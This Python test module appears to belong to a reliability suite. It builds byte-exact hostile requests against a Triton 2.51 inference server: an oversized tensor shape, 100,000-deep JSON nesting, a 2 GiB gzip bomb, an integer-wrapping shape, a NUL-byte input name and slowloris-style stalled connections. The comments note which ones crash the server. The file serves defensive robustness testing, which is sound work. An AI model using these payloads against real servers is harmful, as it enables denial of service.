"""Hostile requests: the small crafted requests that crash or bloat the
bundled Triton 2.51 (issue 16, rows 1-5 and 8), built byte for byte and sent
over raw sockets so nothing on our side (SDK, tritonclient) can tidy them up.

Each builder returns exactly what goes on the wire; `send_http` reports what
the client saw ("HTTP 400 ...", or how the connection ended). Whether a
request is *contained* is decided by the caller, which knows what is in front
of the server (supervisor, proxy) and what the valid traffic around it saw.
"""

from __future__ import annotations

import gzip
import json
import socket
import time
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Mapping

import grpc
import numpy as np
from tritonclient.grpc import service_pb2, service_pb2_grpc

from pinrank.backend import schema
from reliability.bad_inputs.helpers import base_request

INFER_PATH = f"/v2/models/{schema.ENSEMBLE_MODEL}/infer"
#: Row 1: 8 x 2**40 bytes; Triton 2.51 segfaults sizing it from a 95-byte body.
HUGE_DIM = 2**40
#: Row 2: nesting depth of "data" that kills the server's JSON parser.
DEEP_NESTING = 100_000
#: Row 4: shape x 8 bytes wraps around 2**64 to 40, which matches the 40
#: bytes sent, so the size check passes and the stub allocates 2**61 items.
WRAPPING_DIM = 2**61 + 5
#: Row 3: inflated size of the gzip body (2 GiB: std::length_error, abort).
GZIP_INFLATED = 2**31


def _json_input(name: str, arr: np.ndarray) -> dict[str, Any]:
    return {"name": name, "shape": list(arr.shape), "datatype": "INT64", "data": arr.reshape(-1).tolist()}


def _valid_inputs_except(*names: str) -> list[dict[str, Any]]:
    return [_json_input(k, v) for k, v in base_request().items() if k not in names]


def huge_shape_json() -> bytes:
    """Row 1: one input declaring 2**40 elements, one element of data (about 95 bytes)."""
    body = {"inputs": [{"name": "candidate_ids", "shape": [HUGE_DIM], "datatype": "INT64", "data": [1]}]}
    return json.dumps(body, separators=(",", ":")).encode()


def deep_json(depth: int = DEEP_NESTING) -> bytes:
    """Row 2: `data` nested `depth` levels deep (2 bytes a level)."""
    head = '{"inputs":[{"name":"candidate_ids","shape":[1],"datatype":"INT64","data":'
    return (head + "[" * depth + "1" + "]" * depth + "}]}").encode()


def gzip_bomb(inflated: int = GZIP_INFLATED, cache_dir: Path | None = None) -> bytes:
    """Row 3: a gzip body of zeros that inflates to `inflated` bytes (2 GiB ->
    about 2 MB, 5 s to build, so it is cached in `cache_dir` when given)."""
    cached = cache_dir / f"gzip_bomb_{inflated}.gz" if cache_dir is not None else None
    if cached is not None and cached.exists():
        return cached.read_bytes()
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)  # wbits 31: a gzip container
    chunk = bytes(1 << 24)
    parts = []
    left = inflated
    while left > 0:
        parts.append(comp.compress(chunk[: min(left, len(chunk))]))
        left -= len(chunk)
    parts.append(comp.flush())
    body = b"".join(parts)
    if cached is not None:
        cached.parent.mkdir(parents=True, exist_ok=True)
        cached.write_bytes(body)
    return body


def wrapped_shape_binary() -> tuple[bytes, dict[str, str]]:
    """Row 4, HTTP: a binary-tensor request whose candidate_ids shape
    [2**61 + 5] x 8 bytes wraps to the 40 bytes attached; the other inputs are valid."""
    header = {"inputs": [{"name": "candidate_ids", "shape": [WRAPPING_DIM], "datatype": "INT64",
                          "parameters": {"binary_data_size": 40}}, *_valid_inputs_except("candidate_ids")]}
    head = json.dumps(header, separators=(",", ":")).encode()
    data = np.arange(5, dtype="<i8").tobytes()
    return head + data, {"Inference-Header-Content-Length": str(len(head)),
                         "Content-Type": "application/octet-stream"}


def wrapped_shape_grpc(grpc_url: str, timeout_s: float = 30.0) -> str:
    """Row 4, gRPC: the same shape with 40 raw bytes; what the client saw."""
    request = service_pb2.ModelInferRequest(model_name=schema.ENSEMBLE_MODEL)
    for name, arr in base_request().items():
        tensor = request.inputs.add()
        tensor.name, tensor.datatype = name, "INT64"
        if name == "candidate_ids":
            tensor.shape.append(WRAPPING_DIM)
            request.raw_input_contents.append(np.arange(5, dtype="<i8").tobytes())
        else:
            tensor.shape.extend(arr.shape)
            request.raw_input_contents.append(arr.astype("<i8").tobytes())
    with grpc.insecure_channel(grpc_url) as channel:
        try:
            service_pb2_grpc.GRPCInferenceServiceStub(channel).ModelInfer(request, timeout=timeout_s)
        except grpc.RpcError as exc:
            return f"[{exc.code().name}] {exc.details()}"
    return "served"


def nul_name_json() -> bytes:
    """Row 7: a valid request whose user_id input is named "user_id\\u0000zzz"."""
    inputs = _valid_inputs_except("user_id")
    inputs.append(_json_input("user_id\u0000zzz", np.array([1], np.int64)))
    return json.dumps({"inputs": inputs}).encode()


def send_http(host: str, port: int, body: bytes, *, path: str = INFER_PATH, headers: Mapping[str, str] | None = None,
              timeout_s: float = 30.0) -> str:
    """POST `body` over a fresh socket; "HTTP <status> <first bytes of the body>",
    or how the connection ended ("closed without a response", "reset", "timeout")."""
    head = {"Host": f"{host}:{port}", "Content-Type": "application/json", "Content-Length": str(len(body)),
            "Connection": "close", **(headers or {})}
    request = f"POST {path} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in head.items()) + "\r\n"
    try:
        with socket.create_connection((host, port), timeout=timeout_s) as sock:
            sock.sendall(request.encode() + body)
            reply = _read_reply(sock)
    except ConnectionResetError:
        return "reset"
    except (socket.timeout, TimeoutError):
        return "timeout"
    except BrokenPipeError:
        return "closed while sending"
    except ConnectionRefusedError:
        return "refused"
    if not reply:
        return "closed without a response"
    status, _, rest = reply.partition(b"\r\n")
    body_start = rest.split(b"\r\n\r\n", 1)[-1][:300]
    parts = status.decode(errors="replace").split(" ", 2)
    code = parts[1] if len(parts) > 1 else "?"
    return f"HTTP {code} {body_start.decode(errors='replace')}".strip()


def _read_reply(sock: socket.socket, limit: int = 1 << 16) -> bytes:
    chunks, size = [], 0
    while size < limit:
        try:
            data = sock.recv(4096)
        except ConnectionResetError:
            if chunks:
                break
            raise
        if not data:
            break
        chunks.append(data)
        size += len(data)
    return b"".join(chunks)


def status_of(answer: str) -> int | None:
    """The HTTP status in a `send_http` answer, None when there was no response."""
    if not answer.startswith("HTTP "):
        return None
    try:
        return int(answer.split(" ", 2)[1])
    except ValueError:
        return None


@dataclass
class SlowClients:
    """Row 8: connections that send headers and part of a declared body, then stall."""

    opened: int
    closed_by_server: int
    seconds: float


def slow_clients(host: str, port: int, count: int = 100, hold_s: float = 10.0,
                 path: str = INFER_PATH) -> SlowClients:
    """Open `count` connections each promising 1,000 body bytes and sending 10,
    wait up to `hold_s`, and count how many the server closed on its own."""
    socks: list[socket.socket] = []
    head = (f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: application/json\r\n"
            f"Content-Length: 1000\r\n\r\n").encode()
    t0 = time.monotonic()
    try:
        for _ in range(count):
            s = socket.create_connection((host, port), timeout=5.0)
            s.sendall(head + b'{"inputs":')
            s.setblocking(False)
            socks.append(s)
        closed: set[int] = set()
        while time.monotonic() - t0 < hold_s and len(closed) < len(socks):
            for i, s in enumerate(socks):
                if i in closed:
                    continue
                try:
                    data = s.recv(4096)
                except BlockingIOError:
                    continue
                except OSError:
                    closed.add(i)
                    continue
                if not data or data.startswith(b"HTTP/1.1 4") or data.startswith(b"HTTP/1.1 5"):
                    closed.add(i)  # an error answer (408/400) ends the request too
            time.sleep(0.1)
        return SlowClients(len(socks), len(closed), round(time.monotonic() - t0, 1))
    finally:
        for s in socks:
            s.close()


def gzip_body(body: bytes) -> bytes:
    """A legal gzip body (for checking that compressed requests are refused at all)."""
    return gzip.compress(body)
